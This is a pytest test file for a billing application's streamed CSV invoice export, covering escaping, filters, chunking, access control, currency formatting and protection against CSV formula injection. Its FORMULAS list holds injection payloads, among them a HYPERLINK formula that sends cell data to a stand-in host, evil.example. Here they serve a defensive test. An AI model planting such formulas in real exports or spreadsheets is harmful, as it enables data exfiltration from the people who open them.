"""GET …/invoices.csv: the list's rows and filters as RFC 4180 CSV, streamed."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from penvoice.documents import csv_export
from penvoice.documents.csv_export import COLUMNS, csv_chunks, major_units
from penvoice.money import to_decimal
from tests.documents.conftest import finalized
from tests.invoices.conftest import Billing, make_billing

pytestmark = pytest.mark.anyio

AWKWARD = 'Acme, "Quotes"\nNewline Ltd'
PAYMENT = {"paid_on": "2026-11-03", "method": "cash"}


async def export(billing: Billing, **params: str) -> tuple[list[str], list[dict[str, str]], str]:
    response = await billing.api.client.get(
        f"{billing.base}/invoices.csv", params=params, headers=billing.headers()
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="invoices.csv"'
    assert "content-length" not in response.headers  # streamed
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    header, body = rows[0], rows[1:]
    return header, [dict(zip(header, row, strict=True)) for row in body], response.text


async def listed(billing: Billing, **params: str) -> list[dict[str, Any]]:
    response = await billing.api.client.get(
        f"{billing.base}/invoices", params={"limit": "100", **params}, headers=billing.headers()
    )
    assert response.status_code == 200, response.text
    items: list[dict[str, Any]] = response.json()["items"]
    assert response.json()["next_cursor"] is None
    return items


async def seed(billing: Billing) -> dict[str, str]:
    """Invoices in every status, three currencies, two customers, two issue dates."""
    client, base = billing.api.client, billing.base
    awkward = await client.post(
        f"{base}/customers", json={"name": AWKWARD, "currency": "JPY"}, headers=billing.headers()
    )
    assert awkward.status_code == 201, awkward.text
    awkward_id = awkward.json()["id"]
    line = {"description": "Work", "quantity": "3", "unit_amount": 123_456}
    taxed = {**line, "tax_rate_ids": [billing.vat_inclusive, billing.levy_exclusive]}
    ids = {"draft": (await billing.draft([taxed]))["id"]}
    ids["open"] = (await finalized(billing, [taxed]))["id"]
    paid = await finalized(billing, [taxed], currency="KWD")
    response = await billing.post(
        f"/invoices/{paid['id']}/payments", {**PAYMENT, "amount": paid["total"], "currency": "KWD"}
    )
    assert response.status_code == 201, response.text
    ids["paid"] = paid["id"]
    void = await finalized(billing, [line], customer_id=awkward_id)
    assert (await billing.post(f"/invoices/{void['id']}/void")).status_code == 200
    ids["void"] = void["id"]
    later = await billing.draft([line], customer_id=awkward_id)
    done = await billing.post(f"/invoices/{later['id']}/finalize", {"issue_date": "2026-12-01"})
    assert done.status_code == 200, done.text
    ids["future"] = later["id"]
    ids["awkward_customer"] = awkward_id
    return ids


async def test_export_matches_the_api_row_for_row_with_correct_escaping(billing: Billing) -> None:
    ids = await seed(billing)
    # Renaming the customer afterwards: finalized invoices keep the snapshot, drafts follow.
    renamed = await billing.api.client.patch(
        f"{billing.base}/customers/{billing.customer_id}",
        json={"name": "Renamed Kunde AG"},
        headers=billing.headers(),
    )
    assert renamed.status_code == 200, renamed.text

    header, rows, raw = await export(billing)
    assert header == list(COLUMNS)
    assert raw.startswith(",".join(COLUMNS) + "\r\n")
    assert '"Acme, ""Quotes""\nNewline Ltd"' in raw  # quoted, quotes doubled, newline kept
    items = await listed(billing)
    assert [row["id"] for row in rows] == [item["id"] for item in items]  # newest first
    for row, item in zip(rows, items, strict=True):
        full = (
            await billing.api.client.get(
                f"{billing.base}/invoices/{item['id']}", headers=billing.headers()
            )
        ).json()
        currency = full["currency"]
        for field in ("subtotal", "tax_total", "total", "amount_paid", "amount_due"):
            assert row[field] == str(to_decimal(full[field], currency)), (field, row)
        for field in ("number", "issue_date", "due_date"):
            assert row[field] == (full[field] or ""), field
        assert (row["status"], row["currency"]) == (full["status"], currency)
        assert row["created_at"].replace("+00:00", "Z") == full["created_at"].replace("+00:00", "Z")
        if full["status"] == "draft":
            assert row["customer_name"] == "Renamed Kunde AG"
        else:
            assert row["customer_name"] == full["customer_snapshot"]["name"]
    by_id = {row["id"]: row for row in rows}
    assert by_id[ids["void"]]["customer_name"] == AWKWARD
    assert by_id[ids["open"]]["customer_name"] == "Ünïcode Kunde GmbH"
    assert by_id[ids["draft"]]["customer_name"] == "Renamed Kunde AG"
    assert by_id[ids["void"]]["currency"] == "JPY"
    assert by_id[ids["void"]]["total"] == "370368"  # no minor digits, no separators
    assert by_id[ids["paid"]]["amount_due"] == "0.000"  # KWD: three minor digits
    assert "," not in by_id[ids["open"]]["total"]


async def test_filters_are_the_lists_filters(billing: Billing) -> None:
    ids = await seed(billing)
    number = (
        await billing.api.client.get(
            f"{billing.base}/invoices/{ids['paid']}", headers=billing.headers()
        )
    ).json()["number"]
    cases: list[dict[str, str]] = [
        {"status": "open"},
        {"status": "draft"},
        {"status": "void"},
        {"customer_id": ids["awkward_customer"]},
        {"overdue": "true"},
        {"overdue": "false"},
        {"issue_date_from": "2026-11-30"},
        {"issue_date_to": "2026-11-30"},
        {"issue_date_from": "2026-11-01", "issue_date_to": "2026-11-30", "status": "paid"},
        {"number": number},
        {"number": "NO-SUCH"},
    ]
    for params in cases:
        _, rows, _ = await export(billing, **params)
        expected = [item["id"] for item in await listed(billing, **params)]
        assert [row["id"] for row in rows] == expected, params
    _, rows, _ = await export(billing, number=number)
    assert [row["id"] for row in rows] == [ids["paid"]]
    bad = await billing.api.client.get(
        f"{billing.base}/invoices.csv", params={"status": "lost"}, headers=billing.headers()
    )
    assert bad.status_code == 422
    assert bad.json()["errors"][0]["field"] == "query.status"


async def test_small_chunks_give_the_same_file_and_every_export_returns_its_connection(
    billing: Billing, monkeypatch: pytest.MonkeyPatch
) -> None:
    await seed(billing)
    _, _, whole = await export(billing)
    monkeypatch.setattr(csv_export, "CHUNK_ROWS", 2)
    _, _, chunked = await export(billing)
    assert chunked == whole
    # More exports than the pool has connections: none is kept after its stream ends.
    for _ in range(12):
        await export(billing, status="open")
    database = billing.api.app.state.database
    size, idle, _ = database.pool_state()
    assert size == idle


async def test_only_members_export(billing: Billing) -> None:
    await billing.draft()
    other = await make_billing(billing.api, owner="oscar")
    foreign = await billing.api.client.get(f"{billing.base}/invoices.csv", headers=other.headers())
    assert foreign.status_code == 404
    assert foreign.headers["content-type"] == "application/problem+json"
    _, rows, _ = await export(other)
    assert rows == []  # his own organisation has no invoices
    anonymous = await billing.api.client.get(f"{billing.base}/invoices.csv")
    assert anonymous.status_code == 401


async def _records(count: int) -> AsyncIterator[dict[str, Any]]:
    for i in range(count):
        yield {
            "id": f"id-{i}",
            "number": None,
            "status": "draft",
            "customer_name": "a,b",
            "currency": "USD",
            "issue_date": None,
            "due_date": None,
            "subtotal": i,
            "tax_total": 0,
            "total": i,
            "amount_paid": 0,
            "amount_due": i,
            "created_at": None,
            "amount_credited": 0,
            "amount_refunded": 0,
        }


async def test_chunks_hold_at_most_chunk_rows_rows() -> None:
    chunks = [chunk async for chunk in csv_chunks(_records(5), 2)]
    assert [chunk.count(b"\r\n") for chunk in chunks] == [3, 2, 1]  # the header rides first
    assert len([chunk async for chunk in csv_chunks(_records(4), 2)]) == 2  # no empty tail
    assert (
        b"".join(chunks).decode().splitlines()[-1]
        == 'id-4,,draft,"a,b",USD,,,0.04,0.00,0.04,0.00,0.04,,0.00,0.00'
    )
    empty = [chunk async for chunk in csv_chunks(_records(0), 2)]
    assert b"".join(empty) == (",".join(COLUMNS) + "\r\n").encode()


@given(
    amount=st.integers(min_value=-(2**63), max_value=2**63 - 1),
    currency=st.sampled_from(["USD", "EUR", "JPY", "KWD", "BHD", "CLF", "ISK", "UYW"]),
)
def test_major_units_is_money_to_decimal(amount: int, currency: str) -> None:
    assert major_units(amount, currency) == format(to_decimal(amount, currency), "f")


def test_major_units_use_the_currencys_digits_without_separators() -> None:
    assert major_units(123_450, "USD") == "1234.50"
    assert major_units(0, "USD") == "0.00"
    assert major_units(1_235, "JPY") == "1235"
    assert major_units(1_235, "KWD") == "1.235"
    assert major_units(1, "CLF") == "0.0001"


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\tTabbed",
    "\rReturned",
    "=1",
]


async def test_export_is_safe_against_formula_injection_by_default(billing: Billing) -> None:
    """OWASP's CSV injection guidance: a text cell starting with = + - @ tab or CR is
    prefixed with a single quote, so a spreadsheet shows it as text and runs nothing."""
    client, base = billing.api.client, billing.base
    for name in FORMULAS:
        created = await client.post(
            f"{base}/customers", json={"name": name}, headers=billing.headers()
        )
        assert created.status_code == 201, created.text
        await billing.draft(customer_id=created.json()["id"])
    _, rows, _ = await export(billing)
    names = sorted(row["customer_name"] for row in rows)
    assert names == sorted("'" + name for name in FORMULAS)
    # ?raw=true: for programs, every value verbatim.
    _, rows, _ = await export(billing, raw="true")
    assert sorted(row["customer_name"] for row in rows) == sorted(FORMULAS)


async def test_the_raw_form_writes_values_verbatim() -> None:
    records = [{**record, "customer_name": name} async for record, name in _named(FORMULAS)]

    async def source() -> AsyncIterator[dict[str, Any]]:
        for record in records:
            yield record

    raw = b"".join([chunk async for chunk in csv_chunks(source(), 100, raw=True)]).decode()
    safe = b"".join([chunk async for chunk in csv_chunks(source(), 100)]).decode()
    raw_names = [row[3] for row in csv.reader(io.StringIO(raw, newline=""))][1:]
    safe_names = [row[3] for row in csv.reader(io.StringIO(safe, newline=""))][1:]
    assert raw_names == FORMULAS
    assert safe_names == ["'" + name for name in FORMULAS]


async def _named(names: list[str]) -> AsyncIterator[tuple[dict[str, Any], str]]:
    index = 0
    async for record in _records(len(names)):
        yield record, names[index]
        index += 1


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("Acme", "Acme"),
        ("", ""),
        ("a=b", "a=b"),
        ("=cmd", "'=cmd"),
        ("＝cmd", "'＝cmd"),  # fullwidth equals: some spreadsheets read it as "="
        ("\nLine", "'\nLine"),
        ("INV-000001", "INV-000001"),
        ("-000001", "'-000001"),
    ],
)
def test_neutralise(value: str, shown: str) -> None:
    assert csv_export.neutralise(value) == shown
